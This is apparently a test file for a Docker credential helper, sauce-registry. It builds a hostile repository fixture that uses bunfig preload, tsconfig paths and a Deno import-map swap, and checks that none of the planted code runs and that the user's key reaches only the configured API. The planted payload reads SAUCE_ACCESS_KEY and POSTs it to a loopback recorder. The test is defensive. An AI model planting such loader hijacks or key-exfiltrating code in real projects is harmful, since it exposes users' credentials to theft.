// A hostile repository as the working folder. Docker runs the credential helper in whatever folder
// the user is in, usually a clone of code nobody here wrote; CI recipes even check sauce-registry
// out inside that clone. This file builds such a repository, with every way Deno and Bun could be
// made to load its code or settings: a bunfig.toml `preload`, tsconfig.json `paths`, a deno.json
// workspace with an import map, and a .env naming another Sauce Labs identity and an API of its
// own. Then it runs the installed helper from inside it, as Docker does
// (`docker-credential-saucelabs get`, the host on stdin), in each form `install-helper` writes:
// the Deno wrapper, the Bun wrapper and the compiled Bun binary. No code of the repository may
// run, the user's own identity must be used, and the key must go to the configured API only.
//
// Runs unchanged under `deno test -A` and `bun test`; each run drives both runtimes and the binary.

import { Buffer } from "node:buffer";
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, assert, before, describe, it } from "./deps.ts";
import { type StandIn, startStandIn } from "./fixtures/stand_in.ts";
import { requireTool, run, type RunResult } from "./fixtures/services.ts";
import { makeSandbox, ROOT, type Sandbox, SecretScanner } from "./fixtures/harness.ts";

const USERS = {
  alice: "alice-access-key-0123456789",
  mallory: "mallory-access-key-987654321",
};

/** The registry the user configured for the helper; no one connects to it. */
const HOST = "127.0.0.1:5999";

/** The files and folders of sauce-registry a checkout holds, copied into the hostile repository. */
async function toolFiles(): Promise<string[]> {
  return (await readdir(ROOT)).filter((name) =>
    name === "deno.json" || name === "src" || /^(cli|mod|deps)\.ts$/.test(name)
  );
}

/** The kinds of repository code that must never run. */
const PAYLOADS = ["bunfig-preload", "tsconfig-paths", "deno-import-map"] as const;

/** Generous: a cold runtime start and a `bun build --compile` can be slow on a busy machine. */
const SLOW = { timeout: 180_000 };

/** A loopback server that records every request: the API the repository's .env names. */
interface Recorder {
  url: string;
  requests: { path: string; authorization?: string; body: string }[];
  close(): Promise<void>;
}

async function startRecorder(): Promise<Recorder> {
  const requests: Recorder["requests"] = [];
  const server = http.createServer((request, response) => {
    let body = "";
    request.setEncoding("utf8").on("data", (chunk: string) => (body += chunk));
    request.on("end", () => {
      requests.push({
        path: request.url ?? "",
        authorization: request.headers.authorization,
        body,
      });
      response.writeHead(200, { "content-type": "application/json", connection: "close" });
      // A well-formed token answer: had the helper asked here, it would have used it.
      response.end(JSON.stringify({
        username: "oauth2accesstoken",
        password: "token-from-the-repository-api",
        expires_at: new Date(Date.now() + 600_000).toISOString().replace(/\.\d+Z$/, "Z"),
      }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/**
 * Code that proves it ran: it writes a marker file (with the access key it can see) and tells the
 * recorder, then exports what the module it replaces would, so that nothing crashes visibly.
 */
function payload(kind: string, repo: string, recorderUrl: string): string {
  return `import { writeFileSync } from "node:fs";
writeFileSync(${JSON.stringify(join(repo, `pwned-${kind}`))}, String(process.env.SAUCE_ACCESS_KEY));
await fetch(${JSON.stringify(`${recorderUrl}/${kind}`)}, {
  method: "POST",
  body: String(process.env.SAUCE_ACCESS_KEY),
}).catch(() => {});
export const loadUtil = () => import("node:util");
export const loadChildProcess = () => import("node:child_process");
export const loadFs = () => import("node:fs/promises");
export const loadOs = () => import("node:os");
`;
}

/** Build the hostile repository, with a checkout of sauce-registry inside it as CI recipes do. */
async function buildHostileRepository(repo: string, recorderUrl: string): Promise<string> {
  const checkout = join(repo, ".sauce-registry");
  await mkdir(checkout, { recursive: true });
  for (const file of await toolFiles()) {
    await cp(join(ROOT, file), join(checkout, file), { recursive: true });
  }
  for (const kind of PAYLOADS) {
    await writeFile(join(repo, `${kind}.ts`), payload(kind, repo, recorderUrl));
  }
  await writeFile(join(repo, "bunfig.toml"), 'preload = ["./bunfig-preload.ts"]\n');
  await writeFile(
    join(repo, "tsconfig.json"),
    JSON.stringify({ compilerOptions: { baseUrl: ".", paths: { "*": ["./tsconfig-paths.ts"] } } }),
  );
  // A workspace whose import map swaps the checkout's deps.ts for the repository's look-alike.
  const swapped: Record<string, string> = {
    [new URL(`file://${join(checkout, "deps.ts")}`).href]: "./deno-import-map.ts",
    "./.sauce-registry/deps.ts": "./deno-import-map.ts",
  };
  await writeFile(
    join(repo, "deno.json"),
    JSON.stringify({
      workspace: ["./.sauce-registry"],
      imports: swapped,
      scopes: { "./.sauce-registry/": swapped },
    }),
  );
  await writeFile(
    join(repo, ".env"),
    `SAUCE_USERNAME=mallory\nSAUCE_ACCESS_KEY=${USERS.mallory}\nSAUCE_API_URL=${recorderUrl}\n` +
      `SAUCE_REGION=eu-central-1\n`,
  );
  await writeFile(join(repo, "package.json"), JSON.stringify({ name: "hostile", type: "module" }));
  return checkout;
}

describe("a hostile repository as the working folder", () => {
  let standIn: StandIn;
  let recorder: Recorder;
  let work: string;
  let repo: string;
  let checkout: string;
  let sandbox: Sandbox;
  const scanner = new SecretScanner();
  scanner.add(...Object.values(USERS));

  before(async () => {
    standIn = await startStandIn({ users: USERS, enrolled: ["alice", "mallory"] });
    recorder = await startRecorder();
    work = await mkdtemp(join(tmpdir(), "sr-attack-"));
    repo = join(work, "cloned-repository");
    checkout = await buildHostileRepository(repo, recorder.url);
    // The user: credentials in saucectl's file only, so that a .env, were it read, would win.
    sandbox = await makeSandbox({ SAUCE_REGISTRY_NO_CACHE: "1" });
    const sauce = join(sandbox.env.HOME, ".sauce");
    await mkdir(sauce, { recursive: true });
    await writeFile(
      join(sauce, "credentials.yml"),
      `username: alice\naccessKey: ${USERS.alice}\n`,
      { mode: 0o600 },
    );
  });

  after(async () => {
    await standIn?.close();
    await recorder?.close();
    await sandbox?.cleanup();
    if (work) await rm(work, { recursive: true, force: true });
  });

  /** The documented ways of running the checkout's cli.ts (README): each runtime's safe flags. */
  function documented(runtime: "deno" | "bun"): string[] {
    return runtime === "deno"
      ? [requireTool("deno"), "run", "-A", "--no-config", join(checkout, "cli.ts")]
      : [
        requireTool("bun"),
        "--no-env-file",
        "--config=/dev/null",
        "--tsconfig-override=/dev/null",
        join(checkout, "cli.ts"),
      ];
  }

  /** Forget what an earlier run left, so that a finding is pinned on the run that caused it. */
  async function cleanSlate(): Promise<void> {
    for (const name of await readdir(repo)) {
      if (name.startsWith("pwned-")) await rm(join(repo, name));
    }
    recorder.requests.length = 0;
  }

  async function runIn(cwd: string, argv: string[], stdin = ""): Promise<RunResult> {
    const [program, ...args] = argv;
    return await run(program, args, {
      env: sandbox.env,
      inheritEnv: false,
      cwd,
      stdin,
      timeoutMs: 60_000,
    });
  }

  /** Configure the helper for HOST once, outside the repository, with the stand-in as its API. */
  let configured: Promise<void> | undefined;
  function configureOnce(): Promise<void> {
    return configured ??= (async () => {
      const result = await runIn(sandbox.dir, [
        ...documented("deno"),
        "configure-docker",
        "--api-url",
        standIn.url,
        `${HOST}/team`,
      ]);
      assert.equal(result.code, 0, result.stderr);
    })();
  }

  /** No marker, no call to the repository's API: none of its code ran, nothing was sent there. */
  async function assertNothingOfTheRepositoryRan(what: string): Promise<void> {
    const markers = (await readdir(repo)).filter((name) => name.startsWith("pwned-"));
    const leaked = await Promise.all(
      markers.map(async (name) => `${name} (${await readFile(join(repo, name), "utf8")})`),
    );
    assert.deepEqual(leaked, [], `${what} ran the repository's code`);
    assert.deepEqual(recorder.requests, [], `${what} contacted the repository's API`);
  }

  function basic(user: keyof typeof USERS): string {
    return `Basic ${Buffer.from(`${user}:${USERS[user]}`).toString("base64")}`;
  }

  /**
   * Docker's call of the helper from inside the repository: the user's identity is used, the key
   * goes to the configured API only, the repository's code does not run.
   */
  async function helperGetFromRepository(helper: string, what: string): Promise<void> {
    await configureOnce();
    await cleanSlate();
    const requests = standIn.requests.length;
    const issued = standIn.issued.length;
    const get = await runIn(repo, [helper, "get"], HOST);
    await assertNothingOfTheRepositoryRan(what);
    assert.equal(get.code, 0, `${what}: exit ${get.code}\n${get.stdout}\n${get.stderr}`);
    const answer = JSON.parse(get.stdout) as {
      ServerURL: string;
      Username: string;
      Secret: string;
    };
    const tokens = standIn.issued.slice(issued);
    assert.equal(tokens.length, 1, `${what}: one token`);
    scanner.add(tokens[0].password);
    assert.equal(tokens[0].sauceUser, "alice", `${what}: the token was issued to the wrong user`);
    assert.deepEqual(answer, {
      ServerURL: HOST,
      Username: "oauth2accesstoken",
      Secret: tokens[0].password,
    });
    const asked = standIn.requests.slice(requests);
    assert.ok(asked.length > 0);
    for (const request of asked) {
      assert.equal(request.headers.authorization, basic("alice"), `${what}: asked as someone else`);
    }
    assert.deepEqual(JSON.parse(asked.at(-1)!.body), { registry_url: `${HOST}/team` });
    scanner.check(`${what} stderr`, get.stderr);
  }

  it("runs none of its code when the tool is run the documented ways inside it", SLOW, async () => {
    for (const runtime of ["deno", "bun"] as const) {
      await cleanSlate();
      const version = await runIn(repo, [...documented(runtime), "--version"]);
      assert.equal(version.code, 0, version.stderr);
      assert.match(version.stdout, /^sauce-registry \d+\.\d+\.\d+/);
      await assertNothingOfTheRepositoryRan(`${runtime} ${documented(runtime).slice(1).join(" ")}`);
    }
  });

  for (const runtime of ["deno", "bun"] as const) {
    it(
      `serves the user's token through the ${runtime} wrapper install-helper writes`,
      SLOW,
      async () => {
        const bin = join(work, `bin-${runtime}`);
        const installed = await runIn(sandbox.dir, [
          ...documented(runtime),
          "install-helper",
          "--dir",
          bin,
        ]);
        assert.equal(installed.code, 0, installed.stderr);
        assert.match(installed.stdout, new RegExp(`${runtime} wrapper`));
        await helperGetFromRepository(
          join(bin, "docker-credential-saucelabs"),
          `${runtime} wrapper`,
        );
      },
    );
  }

  it(
    "serves the user's token through the compiled binary, built as compile:bun does",
    SLOW,
    async () => {
      const bun = requireTool("bun");
      const binary = join(work, "bin-compiled", "sauce-registry");
      const denoJson = JSON.parse(await readFile(join(ROOT, "deno.json"), "utf8"));
      const task: string[] = denoJson.tasks["compile:bun"].split(/\s+/);
      assert.deepEqual(task.slice(0, 3), ["bun", "build", "--compile"]);
      const args = task.slice(1);
      args[args.indexOf("--outfile") + 1] = binary;
      const build = await run(bun, args, { cwd: ROOT, timeoutMs: 150_000 });
      assert.equal(build.code, 0, `bun build --compile failed: ${build.stderr}`);
      const bin = join(work, "bin-compiled-helper");
      const installed = await runIn(sandbox.dir, [binary, "install-helper", "--dir", bin]);
      assert.equal(installed.code, 0, installed.stderr);
      assert.match(installed.stdout, /symlink/);
      await helperGetFromRepository(join(bin, "docker-credential-saucelabs"), "compiled binary");
    },
  );
});
